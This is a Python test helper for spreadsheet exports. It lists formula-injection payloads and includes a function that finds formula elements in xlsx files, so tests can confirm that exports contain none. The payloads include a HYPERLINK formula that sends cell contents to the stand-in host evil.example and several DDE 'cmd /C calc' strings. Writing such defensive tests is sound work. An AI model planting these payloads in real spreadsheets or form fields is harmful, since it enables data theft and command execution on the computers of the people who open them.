"""What the export tests share: hostile cell texts and a check that a workbook holds no formula."""

import io
import re
import zipfile

#: A unit name or applicant field a spreadsheet would run if it were written as a formula.
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
HOSTILE_CELLS = (HOSTILE, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0")


def formulas(xlsx: bytes) -> list[str]:
    """The formulas (``<f>`` elements) of every sheet of a workbook: none in an export of data."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        return [f for name in sheets for f in re.findall(r"<f[ >].*?</f>", zf.read(name).decode("utf-8"))]
